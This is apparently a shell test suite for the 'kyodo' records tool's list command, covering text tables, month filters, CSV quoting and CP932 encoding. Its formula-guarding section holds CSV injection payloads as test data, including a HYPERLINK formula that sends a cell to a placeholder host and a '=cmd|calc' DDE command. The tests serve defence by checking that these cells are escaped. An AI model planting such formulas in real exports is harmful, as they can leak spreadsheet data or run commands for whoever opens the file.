#!/bin/sh
# kyodo list: the aligned text table, --month, and CSV (RFC 4180, CRLF,
# utf-8 / utf-8-bom / cp932 with 〓 and a warning for what CP932 lacks).
. "$(dirname "$0")/../lib.sh"
set -u

DB=$T/s.db
"$KYODO" init --db "$DB" --center nishi --name "西センター" >/dev/null 2>&1 ||
	not_ok "setup: init" "kyodo init failed"

add() {	# KIND ARGS...: adds, prints the new id
	"$KYODO" add "$@" --db "$DB" --lang en | cut -f1
}

M_APR1=$(add meeting --date 2026-04-01 --start 09:00 --end 10:30 --kind round-table \
	--title "第1回 円卓会議" --room "大会議室" --attendees 25)
M_APR30=$(add meeting --date 2026-04-30 --kind city --title 'Budget, "final"' --attendees 1234)
M_MAR31=$(add meeting --date 2026-03-31 --kind board --title "March" --attendees 3)
M_MAY1=$(add meeting --date 2026-05-01 --kind board --title "May" --attendees 4)
E1=$(add event --date 2026-04-15 --field culture --title "夏祭り" --participants 300 --cost 1234567)
U1=$(add use --date 2026-04-02 --room "和室" --group "囲碁クラブ" --category group --people 8 --fee 1200)
check "setup: six records added" test -n "$M_APR1" -a -n "$M_APR30" -a -n "$M_MAR31" -a \
	-n "$M_MAY1" -a -n "$E1" -a -n "$U1"
p() { printf %.8s "$1"; }

# --- text ---
run "$KYODO" list meeting --db "$DB" --lang en
expect_rc "list meeting: exit 0" 0
check "list meeting: the header row, aligned, with English labels" grep -qxF \
	"ID       Date       Start End   Kind         Title                        Room       Attendees" "$T/out"
check "list meeting: a row padded by display width (kanji are two columns)" grep -qxF \
	"$(p "$M_APR1") 2026-04-01 09:00 10:30 Round table  第1回 円卓会議               大会議室          25" "$T/out"
check "list meeting: a long choice label is cut with … (by display width)" grep -qxF \
	"$(p "$M_APR30") 2026-04-30             Talks with … Budget, \"final\"                              1234" "$T/out"
check "list meeting: header + 4 rows" test "$(wc -l <"$T/out")" -eq 5
check "list meeting: every row as wide as the header (display columns)" \
	test "$(while IFS= read -r l; do printf '%s' "$l" | wc -L; done <"$T/out" | sort -u | wc -l)" -eq 1
check "list meeting: sorted by date" test "$(awk 'NR > 1 { print $2 }' "$T/out" | tr '\n' ' ')" = \
	"2026-03-31 2026-04-01 2026-04-30 2026-05-01 "
check "list meeting: text lines end in LF only" test "$(tr -cd '\r' <"$T/out" | wc -c)" -eq 0
check "list meeting: no trailing blanks" test "$(grep -c ' $' "$T/out")" -eq 0

run "$KYODO" list event --db "$DB" --format text --lang en
expect_rc "list event --format text: exit 0" 0
expect_out "list event: labels in the header" "Event name"
expect_out "list event: the count column" "Participants"
expect_out "list event: the choice shown by its label" "Culture"
expect_out "list event: yen as a whole number" "1234567"

run "$KYODO" list use --db "$DB" --lang en
expect_rc "list use: exit 0" 0
check "list use: header row" grep -qxF \
	"ID       Date       Start End   Room         User or group        Category     People      Fee Fee waived" "$T/out"
check "list use: the row" grep -qxF \
	"$(p "$U1") 2026-04-02             和室         囲碁クラブ           Group use         8     1200" "$T/out"

# --- --month: boundary days in, neighbours out ---
run "$KYODO" list meeting --db "$DB" --month 2026-04 --lang en
expect_rc "list --month 2026-04: exit 0" 0
expect_out "list --month: 04-01 is in" "$(p "$M_APR1") 2026-04-01"
expect_out "list --month: 04-30 is in" "$(p "$M_APR30") 2026-04-30"
expect_no_out "list --month: 03-31 is out" "2026-03-31"
expect_no_out "list --month: 05-01 is out" "2026-05-01"
check "list --month: header + 2 rows" test "$(wc -l <"$T/out")" -eq 3
run "$KYODO" list meeting --db "$DB" --month 2026-04 --format csv --lang en
check "list --month --format csv: header + 2 rows" test "$(wc -l <"$T/out")" -eq 3
run "$KYODO" list meeting --db "$DB" --month 2025-12 --lang en
expect_rc "list --month with no records: exit 0" 0
check "list --month with no records: only the header" test "$(wc -l <"$T/out")" -eq 1
run "$KYODO" list meeting --db "$DB" --month ２０２６－０５ --lang en
expect_rc "list --month in full-width digits: exit 0" 0
check "list --month in full-width: the May meeting only" \
	test "$(wc -l <"$T/out")" -eq 2 -a "$(grep -c 2026-05-01 "$T/out")" -eq 1

for m in 2026-13 2026-00 april 2026-04-01 202604 ""; do
	run "$KYODO" list meeting --db "$DB" --month "$m" --lang en
	expect_rc "list --month '$m': exit 2" 2
	expect_err "list --month '$m': says what --month takes" "--month takes YYYY-MM"
	check "list --month '$m': nothing on stdout" test ! -s "$T/out"
done

# --- CSV ---
run "$KYODO" list meeting --db "$DB" --format csv --lang en
expect_rc "list --format csv: exit 0" 0
check "csv: the header row" \
	test "$(head -n 1 "$T/out")" = "$(printf 'id,date,start,end,kind,title,room,attendees,agenda,summary,project\r')"
for id in "$M_APR1" "$M_APR30" "$M_MAR31" "$M_MAY1"; do
	check "csv: a row starts with its record's uuid $(p "$id")" grep -q "^$id," "$T/out"
done
check "csv: every line ends in CRLF" \
	test "$(grep -c "$(printf '\r')\$" "$T/out")" -eq "$(wc -l <"$T/out")"
check "csv: header + 4 rows" test "$(wc -l <"$T/out")" -eq 5
check "csv: the file ends with CRLF" test "$(tail -c 2 "$T/out" | od -An -tx1 | tr -d ' \n')" = 0d0a
check "csv: codes for choices, UTF-8 text kept exactly" grep -qF \
	"$M_APR1,2026-04-01,09:00,10:30,round-table,第1回 円卓会議,大会議室,25,," "$T/out"
check "csv: a comma and double quotes are quoted (RFC 4180)" grep -qF \
	"$M_APR30,2026-04-30,,,city,\"Budget, \"\"final\"\"\",,1234,," "$T/out"
check "csv: sorted by date" test "$(cut -d, -f2 "$T/out" | tail -n +2 | tr -d '\r' | tr '\n' ' ')" = \
	"2026-03-31 2026-04-01 2026-04-30 2026-05-01 "
check "csv: nothing on stderr" test ! -s "$T/err"
cp "$T/out" "$T/plain.csv"

run "$KYODO" list meeting --db "$DB" --format csv --encoding utf-8 --lang en
check "csv --encoding utf-8: the same bytes as the default" cmp -s "$T/out" "$T/plain.csv"

run "$KYODO" list meeting --db "$DB" --format csv --encoding utf-8-bom --lang en
expect_rc "csv --encoding utf-8-bom: exit 0" 0
check "csv utf-8-bom: starts with EF BB BF then id," \
	test "$(head -c 6 "$T/out" | od -An -tx1 | tr -d ' \n')" = efbbbf69642c
check "csv utf-8-bom: then the same bytes as plain UTF-8" \
	sh -c "tail -c +4 '$T/out' | cmp -s - '$T/plain.csv'"

run "$KYODO" list event --db "$DB" --format csv --lang en
check "csv event: header and row" test "$(tr -d '\r' <"$T/out")" = \
	"$(printf 'id,date,start,end,title,field,organizer,participants,volunteers,cost,project\n%s,2026-04-15,,,夏祭り,culture,,300,,1234567,' "$E1")"

# A note with a line break: quoted, the break kept.
M_NOTE=$(add meeting --date 2026-06-01 --kind other --title "Notes" --agenda "$(printf 'one\ntwo')")
run "$KYODO" list meeting --db "$DB" --month 2026-06 --format csv --lang en
check "csv: a field with a line break is quoted and kept" \
	test "$(tail -n +2 "$T/out")" = "$(printf '%s,2026-06-01,,,other,Notes,,,"one\ntwo",,\r' "$M_NOTE")"

# --- CP932 for Excel: exact bytes, 〓 and a warning for what it lacks ---
EDB=$T/enc.db
"$KYODO" init --db "$EDB" --center enc --name "E" >/dev/null 2>&1
U_OK=$("$KYODO" add use --db "$EDB" --date 2026-04-30 --room Hall --category group \
	--group "髙橋 﨑 ㈱ ①" --lang en | cut -f1)
U_LOST=$("$KYODO" add use --db "$EDB" --date 2026-05-01 --room Hall --category group \
	--group "𠮷野家" --lang en | cut -f1)
run "$KYODO" list use --db "$EDB" --month 2026-04 --format csv --encoding cp932 --lang en
expect_rc "cp932: exit 0" 0
printf 'id,date,start,end,room,group,category,people,fee,exemption\r\n%s,2026-04-30,,,Hall,\373\374\213\264 \372\261 \207\212 \207\100,group,,,\r\n' \
	"$U_OK" >"$T/want.csv"
check "cp932: 髙橋 﨑 ㈱ ① as FB FC 8B B4 20 FA B1 20 87 8A 20 87 40, CRLF" cmp -s "$T/out" "$T/want.csv"
check "cp932: the group's bytes seen with od" \
	sh -c "od -An -tx1 '$T/out' | tr -d ' \n' | grep -q 2cfbfc8bb420fab120878a2087402c"
check "cp932: all held, so no warning" test ! -s "$T/err"

run "$KYODO" list use --db "$EDB" --format csv --encoding cp932 --lang en
expect_rc "cp932 with 𠮷: exit 0" 0
printf '%s,2026-05-01,,,Hall,\201\254\226\354\211\306,group,,,\r\n' "$U_LOST" >"$T/want-row"
check "cp932: 𠮷野家 written as 〓野家 (81 AC 96 EC 89 C6)" \
	sh -c "tail -n 1 '$T/out' | cmp -s - '$T/want-row'"
check "cp932: the record with 𠮷 is not dropped (header + 2 rows)" test "$(wc -l <"$T/out")" -eq 3
expect_err "cp932: a warning on stderr" "warning"
expect_err "cp932: the warning names the record by its id" "$(p "$U_LOST")"
expect_err "cp932: the warning says it became 〓" "〓"
check "cp932: one warning, for that record only" test "$(wc -l <"$T/err")" -eq 1
check "cp932: no warning for the record that fits" sh -c "! grep -qF '$(p "$U_OK")' '$T/err'"

run "$KYODO" list use --db "$EDB" --format csv --lang en
check "utf-8 csv: 𠮷 kept without loss" grep -qF "$U_LOST,2026-05-01,,,Hall,𠮷野家,group" "$T/out"
check "utf-8 csv: 髙橋 﨑 ㈱ ① kept" grep -qF ",Hall,髙橋 﨑 ㈱ ①,group" "$T/out"
check "utf-8 csv: no warning" test ! -s "$T/err"

# --- formulas do not travel: cells a spreadsheet would run get an apostrophe
# (OWASP), import-csv takes it off, and the round trip changes nothing ---
FDB=$T/formula.db
"$KYODO" init --db "$FDB" --center fcen --name "式センター" >/dev/null 2>&1 ||
	not_ok "setup: init the formula store" "kyodo init failed"
fm() {	# DATE TITLE AGENDA: a board meeting
	"$KYODO" add meeting --db "$FDB" --date "$1" --kind board --title "$2" --agenda "$3" \
		--lang en >/dev/null 2>"$T/fm-err" || not_ok "setup: add meeting $2" "$(cat "$T/fm-err")"
}
fm 2026-07-01 '=HYPERLINK("http://x"&A1,"y")' '@SUM(1)'
fm 2026-07-02 '+1' '-1+1'
fm 2026-07-03 "'quoted" "'=x"
fm 2026-07-04 '-4900000' 'メール@example'
fm 2026-07-05 '真柴 =1' "$(printf '=2+2\nline two')"
run "$KYODO" list meeting --db "$FDB" --format csv --lang en
tr -d '\r' <"$T/out" >"$T/formula.csv"
check "csv formulas: =HYPERLINK(…) written after an apostrophe, quoted" grep -qF \
	",\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"y\"\")\"," "$T/formula.csv"
check "csv formulas: @SUM(1) guarded" grep -qF ",'@SUM(1)," "$T/formula.csv"
check "csv formulas: +1 and -1+1 guarded" grep -qF ",'+1,,,'-1+1," "$T/formula.csv"
check "csv formulas: 'quoted kept as is; '=x gets a second apostrophe" \
	grep -qF ",'quoted,,,''=x," "$T/formula.csv"
check "csv formulas: a number (-4900000) stays a number" grep -qF ",-4900000,,,メール@example," "$T/formula.csv"
check "csv formulas: a multi-line cell starting with = is guarded inside its quotes" \
	grep -qF ",\"'=2+2" "$T/formula.csv"
check "csv formulas: no cell starts with = + @ unguarded" \
	sh -c "! grep -qE '(^|,)\"?[=+@]' '$T/formula.csv'"
sed 's/^[^,]*,//' "$T/out" >"$T/first"
for enc in utf-8 utf-8-bom cp932; do
	run "$KYODO" list meeting --db "$FDB" --format csv --encoding "$enc" --lang en
	cp "$T/out" "$T/formula-$enc.csv"
	check "csv formulas $enc: guarded in this encoding too" grep -qaF ",'@SUM(1)," "$T/out"
	rm -f "$T/back-$enc.db"
	"$KYODO" init --db "$T/back-$enc.db" --center back --name "戻り" >/dev/null 2>&1
	in_enc=$enc
	[ "$enc" = utf-8-bom ] && in_enc=utf-8
	run "$KYODO" import-csv meeting --db "$T/back-$enc.db" --encoding "$in_enc" \
		"$T/formula-$enc.csv" --lang en
	expect_out "csv formulas $enc: import-csv reads all five" "Imported 5 rows; skipped 0."
	check "csv formulas $enc: the titles come back without the apostrophes" test \
		"$(sqlite3 "$T/back-$enc.db" "SELECT group_concat(title, '|') FROM (SELECT title FROM meeting ORDER BY date)")" = \
		"=HYPERLINK(\"http://x\"&A1,\"y\")|+1|'quoted|-4900000|真柴 =1"
	"$KYODO" list meeting --db "$T/back-$enc.db" --format csv --lang en | sed 's/^[^,]*,//' >"$T/again"
	check "csv formulas $enc: export → import → export gives the same CSV (but the ids)" \
		cmp -s "$T/first" "$T/again"
done
# The reports and the grant status are written by the same csv_field.
"$KYODO" add room --db "$FDB" --name '=cmd|calc' --active yes --lang en >/dev/null 2>&1
"$KYODO" add use --db "$FDB" --date 2026-07-06 --room '=cmd|calc' --group g --category group \
	--people 3 --fee 100 --lang en >/dev/null 2>&1
"$KYODO" add application --db "$FDB" --program activity --fy 2026 --title '@SUM(1)' \
	--cost 300000 --requested 200000 --lang en >/dev/null 2>&1
for enc in utf-8 utf-8-bom cp932; do
	run "$KYODO" report monthly --db "$FDB" --month 2026-07 --format csv --encoding "$enc" --lang en
	check "report monthly csv $enc: a room named =cmd|calc is guarded" grep -qa "^'=cmd|calc,1,3," "$T/out"
	run "$KYODO" grant status --db "$FDB" --format csv --encoding "$enc" --lang en
	check "grant status csv $enc: a title @SUM(1) is guarded, amounts are numbers" \
		grep -qaF ",2026,'@SUM(1),draft,200000,0,0,0,0,0" "$T/out"
done

# --- usage errors ---
run "$KYODO" list use --db "$EDB" --encoding cp932 --lang en
expect_rc "--encoding without --format csv: exit 2" 2
expect_err "--encoding without csv: says it goes with csv" "--encoding goes with --format csv"
run "$KYODO" list use --db "$EDB" --format text --encoding utf-8 --lang en
expect_rc "--encoding with --format text: exit 2" 2
run "$KYODO" list use --db "$EDB" --format csv --encoding latin1 --lang en
expect_rc "--encoding latin1: exit 2" 2
expect_err "--encoding latin1: lists the encodings" "utf-8, utf-8-bom or cp932"
check "--encoding latin1: nothing on stdout" test ! -s "$T/out"
run "$KYODO" list use --db "$EDB" --format xml --lang en
expect_rc "--format xml: exit 2" 2
expect_err "--format xml: names the formats" "--format is text"
expect_err "--format xml: csv among them" "csv"
check "--format xml: nothing on stdout" test ! -s "$T/out"
run "$KYODO" list party --db "$EDB" --lang en
expect_rc "list of an unknown kind: exit 2" 2
expect_err "list of an unknown kind: names it" "Unknown kind \"party\""
run "$KYODO" list --db "$EDB" --lang en
expect_rc "list without a kind: exit 2" 2
run "$KYODO" list use --db "$EDB" --sort date --lang en
expect_rc "list with an unknown option: exit 2" 2
expect_err "list with an unknown option: names it" "--sort"
run "$KYODO" list use --db --lang en
expect_rc "list with --db lacking its value: exit 2" 2

# --- the store ---
run "$KYODO" list use --db "$T/none.db" --lang en
expect_rc "list on a missing store: exit 1" 1
expect_err "list on a missing store: says there is no store" "There is no store at $T/none.db"
check "list on a missing store: makes no file" test ! -e "$T/none.db"
printf 'hello\n' >"$T/hello.txt"
run "$KYODO" list use --db "$T/hello.txt" --lang en
expect_rc "list on a non-SQLite file: exit 1" 1
expect_err "list on a non-SQLite file: says it is not a kyodo store" "not a kyodo store"
run env KYODO_DB="$DB" "$KYODO" list meeting --format csv --lang en
expect_rc "list with the store from \$KYODO_DB: exit 0" 0
check "list with \$KYODO_DB: that store's records" grep -q "^$M_APR1," "$T/out"
